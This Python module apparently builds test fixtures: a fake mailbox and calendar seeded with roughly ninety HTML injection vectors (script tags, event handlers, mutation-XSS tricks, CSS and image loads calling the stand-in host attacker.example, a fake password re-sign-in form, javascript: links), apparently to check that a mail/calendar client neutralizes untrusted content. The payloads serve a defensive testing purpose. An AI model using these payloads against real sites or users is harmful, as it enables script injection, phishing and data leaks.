"""Attacks as mail and calendars would carry them, and a home that holds every one of them.

A vector calls `hit("NAME")` where its script runs, asks `attacker.example/NAME` where it loads or
sends, or leaves a form or a link that would. All are our own; none needs a click.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

#: What an attacker's vector loads from or sends to.
HOST = "attacker.example"
_URL = f"https://{HOST}/"


@dataclass(frozen=True, slots=True)
class Vector:
    """One attack.

    Attributes:
        aim: `script` (it runs), `request` (it loads or sends), `form` or `link` (it waits in the
            page for somebody who trusts it).
    """

    name: str
    aim: str
    text: str


def _make(aim: str, *texts: str, first: int) -> list[Vector]:
    return [
        Vector(name, aim, text.replace("NAME", name).replace("URL", _URL + name))
        for name, text in ((f"v{first + at:02}", text) for at, text in enumerate(texts))
    ]


SCRIPTS = _make(
    "script",
    "<script>hit('NAME')</script>",
    "<SCRIPT/x>hit('NAME')</SCRIPT >",
    "<script type=module>hit('NAME')</script>",
    "</title></textarea></style><script>hit('NAME')</script>",
    "--><script>hit('NAME')</script><!--",
    "<svg><script>hit('NAME')</script></svg>",
    "<svg><script href=\"data:text/javascript,hit('NAME')\"></script></svg>",
    "<script src=\"data:text/javascript,hit('NAME')\"></script>",
    "<svg/onload=hit('NAME')>",
    "<svg><animate onbegin=hit('NAME') attributeName=x dur=1s></svg>",
    "<svg><set onbegin=hit('NAME') attributeName=x to=1></svg>",
    "<img src=x: onerror=hit('NAME')>",
    '<IMG """><IMG SRC=x: ONERROR=hit(\'NAME\')>',
    "\"><img src=x: onerror=hit('NAME')>",
    '\'><img src=x: onerror=hit("NAME")>',
    "<img/src='x:'/onerror=hit('NAME')>",
    "<image src=x: onerror=hit('NAME')>",
    "<video src=x: onerror=hit('NAME')></video>",
    "<video><source src=x: onerror=hit('NAME')></video>",
    "<audio src=x: onerror=hit('NAME')></audio>",
    "<input autofocus onfocus=hit('NAME')>",
    "<textarea autofocus onfocus=hit('NAME')></textarea>",
    "<button autofocus onfocus=hit('NAME')>x</button>",
    "<p tabindex=1 autofocus onfocus=hit('NAME')>x</p>",
    "<details open ontoggle=hit('NAME')>x</details>",
    "<body onload=hit('NAME')>",
    "<body onpageshow=hit('NAME')>",
    "<svg><image href=x: onerror=hit('NAME') /></svg>",
    "<script src=x: onerror=hit('NAME')></script>",
    "<link rel=stylesheet href=x: onerror=hit('NAME')>",
    "<style onload=hit('NAME')></style>",
    "<style>@keyframes NAME{}</style><p style=animation-name:NAME onanimationstart=hit('NAME')>",
    "<p style=color:red;transition:1ms onanimationend=x><style>@keyframes NAMEb{from{left:0}}"
    "</style><i style=animation:NAMEb&#32;1ms onanimationend=hit('NAME')>x</i></p>",
    "<iframe srcdoc=\"<script>parent.hit('NAME')</script>\"></iframe>",
    "<iframe srcdoc='&lt;img src=x: onerror=parent.hit(&quot;NAME&quot;)&gt;'></iframe>",
    "<iframe src=\"javascript:parent.hit('NAME')\"></iframe>",
    "<iframe onload=hit('NAME')></iframe>",
    "<math><mtext><img src=x: onerror=hit('NAME')></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x: onerror=hit('NAME')></math>",
    "<svg><foreignObject><img src=x: onerror=hit('NAME')></foreignObject></svg>",
    "<svg><desc><img src=x: onerror=hit('NAME')></desc></svg>",
    "<noscript><p title=\"</noscript><img src=x: onerror=hit('NAME')>\">",
    "<xmp></xmp><listing><img src=x: onerror=hit('NAME')>",
    "<svg></p><style><a id=\"</style><img src=x: onerror=hit('NAME')>\">",
    "<table><td><svg onload=hit('NAME')></svg></td></table>",
    "<select><option><svg/onload=hit('NAME')></select><svg/onload=hit('NAME')>",
    "<scr<script></script>ipt>hit('NAME')</script><script>hit('NAME')</script>",
    "<template shadowrootmode=open></template><svg onload=hit('NAME')>",
    "&lt;i&gt;<img src=x: onerror=&#104;it(&#39;NAME&#39;)>",
    "\u202e<img src=x: onerror=hit('NAME')>\u202c",
    "<dialog open><img src=x: onerror=hit('NAME')></dialog>",
    "<div hx-on:htmx:after:init=\"hit('NAME')\" hx-get=/healthz><svg onload=hit('NAME')></div>",
    first=1,
)

REQUESTS = _make(
    "request",
    "<img src=URL>",
    "<img srcset='URL 1x'>",
    "<picture><source srcset=URL><img></picture>",
    "<input type=image src=URL>",
    "<video poster=URL></video>",
    "<video src=URL autoplay></video>",
    "<audio src=URL autoplay></audio>",
    "<svg><image href=URL /></svg>",
    "<svg><feImage href=URL /></svg><svg><image xlink:href=URL /></svg>",
    "<body background=URL>",
    "<table background=URL><td>x</td></table>",
    "<p style='background:url(URL)'>x</p>",
    "<p style='background-image:image-set(\"URL\" 1x)'>x</p>",
    "<ul style='list-style-image:url(URL)'><li>x</li></ul>",
    "<p style='border:9px solid;border-image:url(URL) 1'>x</p>",
    "<p style='cursor:url(URL),auto;content:url(URL)'>x</p><style>i::before{content:url(URL)}"
    "</style><i></i>",
    "<style>@import 'URL';</style>",
    "<style>@import url(URL);</style>",
    "<style>@font-face{font-family:NAME;src:url(URL)}</style><p style='font-family:NAME'>x</p>",
    "<style>p{background:url(URL)}</style>",
    "<link rel=stylesheet href=URL>",
    "<link rel=icon href=URL><img src=URL>",
    "<link rel=preload as=image href=URL>",
    "<link rel=modulepreload href=URL>",
    "<script src=URL></script>",
    "<script type=module>import 'URL'</script>",
    "<iframe src=URL></iframe>",
    "<object data=URL></object>",
    "<embed src=URL>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<base href=URL/><img src=x>",
    "<svg><use href='URL#x'/><image href=URL /></svg>",
    "<frameset><frame src=URL></frameset><img src=URL>",
    first=60,
)

STANDING = [
    *_make(
        "form",
        "<form action=URL><input type=password name=p><button>Sign in again</button></form>",
        "<form id=f></form><button form=f formaction=URL>Approve</button>",
        "<form action=/signout method=post><button>Go on</button></form>",
        first=100,
    ),
    *_make(
        "link",
        "<a href=\"javascript:hit('NAME')\">the report</a>",
        "<a href=' jav&#x09;ascript:hit(\"NAME\")'>the report</a>",
        "<a href=\"data:text/html,<script>hit('NAME')</script>\">the report</a>",
        "<a href=URL ping=URL>the report</a>",
        "<svg><a href=\"javascript:hit('NAME')\"><text y=9>the report</text></a></svg>",
        "<math href=\"javascript:hit('NAME')\">the report</math>"
        "<a href=\"vbscript:hit('NAME')\">x</a>",
        "<map><area href=\"javascript:hit('NAME')\" shape=default></map>",
        first=110,
    ),
]

VECTORS = (*SCRIPTS, *REQUESTS, *STANDING)

#: The owner and the one who writes.
OWNER = "maya@northlight.example"
MALLORY = "mallory@mallory.example"


def write_home(home: Path, *, now: datetime) -> None:
    """A home whose mail and calendar carry every vector in every place that a page shows.

    Per vector one thread: a question in plain text, and one in HTML alone; in both the vector
    stands in the subject, the sender's name, the file's name and a promise. And one meeting, with
    the vector as title, place, text and names.
    """
    (home / "clients").mkdir(parents=True)
    (home / "mail").mkdir()
    (home / "config.toml").write_text(
        f'[owner]\nname = "Maya Lind"\naddresses = ["{OWNER}"]\nzone = "Europe/Berlin"\n\n'
        '[[account]]\nname = "work"\nmail = ["mail"]\ncalendar = ["calendar.ics"]\n'
    )
    (home / "clients" / "mallory.toml").write_text(
        'name = "Mallory <b onmouseover=hit(1)>GmbH</b>"\ndomains = ["mallory.example"]\n'
        'cadence = "weekly"\n'
    )
    for at, vector in enumerate(VECTORS):
        sent_at = now - timedelta(days=3, minutes=at)
        for number, message in enumerate(_mails(vector, sent_at)):
            (home / "mail" / f"{vector.name}-{number}.eml").write_bytes(message.as_bytes())
    events = "".join(_event(one, at, now) for at, one in enumerate(VECTORS))
    (home / "calendar.ics").write_text(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//EN\r\n" + events + "END:VCALENDAR\r\n",
        newline="",
    )


def _mails(vector: Vector, sent_at: datetime) -> list[EmailMessage]:
    plain, html = _mail(vector, sent_at), _mail(vector, sent_at + timedelta(hours=1))
    plain["Message-ID"] = f"<{vector.name}@mallory.example>"
    plain.set_content(
        f"Hello Maya,\n\n{vector.text}\n\nCould you send me the figures for {vector.text}?\n"
        f"I will send you {vector.text} by Friday.\n\n> {vector.text}\n\n-- \n{vector.text}\n"
    )
    html["Message-ID"] = f"<{vector.name}-html@mallory.example>"
    html["In-Reply-To"] = plain["Message-ID"]
    html.set_content(
        f"<p>Could you also look at the plan?</p>{vector.text}<p>Could you confirm {vector.name}?",
        subtype="html",
    )
    for message in (plain, html):
        message.add_attachment(
            b"x", maintype="application", subtype="pdf", filename=f"{vector.text}.pdf"
        )
    return [plain, html]


def _mail(vector: Vector, sent_at: datetime) -> EmailMessage:
    message = EmailMessage(policy=SMTP)
    line = " ".join(vector.text.split())
    message["From"] = Address(line, addr_spec=f"{vector.name}.{MALLORY}")
    message["To"] = Address("Maya Lind", addr_spec=OWNER)
    message["Date"] = format_datetime(sent_at)
    message["Subject"] = line
    return message


def _event(vector: Vector, at: int, now: datetime) -> str:
    """One meeting per vector: before the mails (after them it would answer), today, next week."""
    start = now + timedelta(days=(-4, 0, 7)[at % 3], minutes=at)
    text = vector.text.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;")
    name = vector.text.replace('"', "'")
    lines = [
        "BEGIN:VEVENT", f"UID:{vector.name}@mallory.example", f"DTSTAMP:{now - timedelta(9):%Y%m%dT%H%M%SZ}",
        f"DTSTART:{start:%Y%m%dT%H%M%SZ}", f"DTEND:{start + timedelta(minutes=30):%Y%m%dT%H%M%SZ}",
        f"SUMMARY:{text}", f"LOCATION:{text}", f"DESCRIPTION:{text}", f"URL:{_URL}{vector.name}",
        f'ORGANIZER;CN="Maya Lind":mailto:{OWNER}',
        f'ATTENDEE;CN="{name}";PARTSTAT=ACCEPTED:mailto:{vector.name}.{MALLORY}', "END:VEVENT",
    ]  # fmt: skip
    return "".join(_folded(line) for line in lines)


def _folded(line: str) -> str:
    """A content line, folded at 70 characters (RFC 5545, 3.1)."""
    parts = [line[at : at + 70] for at in range(0, len(line), 70)]
    return "\r\n ".join(parts) + "\r\n"
